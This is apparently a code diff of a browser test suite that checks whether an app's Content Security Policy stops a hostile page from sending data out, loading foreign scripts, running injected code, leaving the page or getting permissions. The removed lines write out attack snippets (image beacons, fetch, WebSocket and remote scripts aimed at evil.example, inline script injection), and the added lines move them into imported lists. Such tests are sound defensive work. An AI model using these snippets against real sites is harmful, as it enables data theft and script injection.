@@ -1,84 +1,86 @@
-import { expect, test } from './support/spec.ts';
+import type { Page } from '@playwright/test';
+import { type Collector, startCollector } from './support/collector.ts';
+import { ASKING, type Attack, LEAVING, PERMISSIONS, RUNNING } from './support/page-attacks.ts';
+import { test as base, expect } from './support/spec.ts';
 
-/** Each tries to get out of the page, or somebody else's code into it. @returns what came of it, in a word */
-const ATTACKS: Readonly<Record<string, string>> = {
-  'asking a server': `fetch('https://evil.example/').then(() => 'out', () => 'kept')`,
-  'asking this computer': `fetch('http://127.0.0.1:1/').then(() => 'out', () => 'kept')`,
-  'a request of the old kind': `new Promise((resolve) => {
-    const request = new XMLHttpRequest();
-    request.onload = () => resolve('out');
-    request.onerror = () => resolve('kept');
-    request.open('GET', 'https://evil.example/');
-    request.send();
-  })`,
-  'a picture that tells': `new Promise((resolve) => {
-    const image = new Image();
-    image.onload = () => resolve('out');
-    image.onerror = () => resolve('kept');
-    image.src = 'https://evil.example/?stolen';
-  })`,
-  'a socket': `new Promise((resolve) => {
-    try {
-      const socket = new WebSocket('wss://evil.example/');
-      socket.onopen = () => resolve('out');
-      socket.onerror = () => resolve('kept');
-    } catch {
-      resolve('kept');
-    }
-  })`,
-  'a script of another server': `new Promise((resolve) => {
-    const script = document.createElement('script');
-    script.onload = () => resolve('out');
-    script.onerror = () => resolve('kept');
-    script.src = 'https://evil.example/evil.js';
-    document.head.append(script);
-  })`,
-  'a script in the page': `(() => {
-    const script = document.createElement('script');
-    script.textContent = 'window.owned = true';
-    document.head.append(script);
-    return window.owned ? 'out' : 'kept';
-  })()`,
-  'a script in an attribute': `(() => {
-    const holder = document.createElement('div');
-    holder.innerHTML = '<b onclick="window.owned = true"></b>';
-    document.body.append(holder);
-    holder.firstChild.click();
-    return window.owned ? 'out' : 'kept';
-  })()`,
-  'a frame': `new Promise((resolve) => {
-    const frame = document.createElement('iframe');
-    document.addEventListener('securitypolicyviolation', () => resolve('kept'), { once: true });
-    frame.src = 'https://evil.example/';
-    document.body.append(frame);
-  })`,
-  'another base for all addresses': `(() => {
-    const base = document.createElement('base');
-    base.href = 'https://evil.example/';
-    document.head.append(base);
-    return document.baseURI.startsWith('https://evil') ? 'out' : 'kept';
-  })()`,
-  'a worker': `new Promise((resolve) => {
-    try {
-      const worker = new Worker('data:text/javascript,postMessage(1)');
-      worker.onmessage = () => resolve('out');
-      worker.onerror = () => resolve('kept');
-    } catch {
-      resolve('kept');
-    }
-  })`,
-};
+const test = base.extend<{ collector: Collector }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of needed fixtures from the pattern
+  collector: async ({}, use) => {
+    const collector = await startCollector();
+    await use(collector);
+    await collector.close();
+  },
+});
 
-for (const [what, attack] of Object.entries(ATTACKS)) {
-  test(`a hostile page gets nowhere with ${what}`, async ({ app }) => {
-    app.expectProblem(/Content Security Policy|Failed to (?:load|construct)|Refused to|violates/);
-    const { page } = app;
-    const before = page.url();
-    expect(await page.evaluate(attack)).toBe('kept');
-    expect(page.url()).toBe(before);
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-  });
+const REFUSALS =
+  /Content Security Policy|Failed to (?:load|construct|register)|Refused to|violates|Not allowed to|net::ERR_|bad HTTP/;
+
+/**
+ * Runs it as code of the page runs: what a debugger evaluates itself may do more than the policy of the page allows.
+ * @returns whether it was refused by an exception; what it brings out is heard elsewhere
+ */
+function attempt(page: Page, attack: Attack, { url, udpPort }: Collector): Promise<'tried' | 'refused'> {
+  return page.evaluate(`new Promise((resolve) => {
+    setTimeout(async () => {
+      try {
+        await (${attack})(${JSON.stringify({ url, udpPort })});
+        resolve('tried');
+      } catch {
+        resolve('refused');
+      }
+    });
+  })`);
 }
+
+/** Tries one after the other; after each the app is still there. */
+async function tryAll(page: Page, attacks: Readonly<Record<string, Attack>>, collector: Collector): Promise<void> {
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  for (const [what, attack] of Object.entries(attacks)) {
+    await test.step(what, async () => {
+      await attempt(page, attack, collector);
+      expect(await page.evaluate(() => document.querySelector('h1')?.checkVisibility()), what).toBe(true);
+    });
+  }
+}
+
+/** What the browser was asked for before has been asked of the collector by now: it asks in order. */
+async function expectNothingHeard(page: Page, collector: Collector): Promise<void> {
+  const other = await page.context().newPage();
+  await other.goto(`${collector.url}/last`);
+  await other.close();
+  const last = ['GET /last', 'GET /favicon.ico'];
+  expect(collector.heard()).toContain('GET /last');
+  expect(collector.heard().filter((asked) => !last.includes(asked))).toEqual([]);
+}
+
+test('a hostile page can have nothing asked for outside of the app', async ({ app, collector }) => {
+  app.expectProblem(REFUSALS);
+  await tryAll(app.page, ASKING, collector);
+  await expectNothingHeard(app.page, collector);
+});
+
+test('a hostile page can lead neither its own window nor another one away', async ({ app, collector }) => {
+  app.expectProblem(REFUSALS);
+  const before = app.page.url();
+  await tryAll(app.page, LEAVING, collector);
+  expect(app.page.url()).toBe(before);
+  expect(app.page.context().pages()).toHaveLength(1);
+  await expectNothingHeard(app.page, collector);
+});
+
+test('a hostile page can run no code but the app’s own', async ({ app, collector }) => {
+  app.expectProblem(REFUSALS);
+  await tryAll(app.page, RUNNING, collector);
+  expect(await app.page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined();
+  await expectNothingHeard(app.page, collector);
+});
+
+test('a hostile page gets no permission', async ({ app, collector }) => {
+  app.expectProblem(REFUSALS);
+  for (const [what, attack] of Object.entries(PERMISSIONS)) {
+    expect(await attempt(app.page, attack, collector), what).toBe('refused');
+  }
+});
 
 test('the bridge has two functions, and neither takes a name it does not know', async ({ app }) => {
   const found = await app.page.evaluate(async () => {
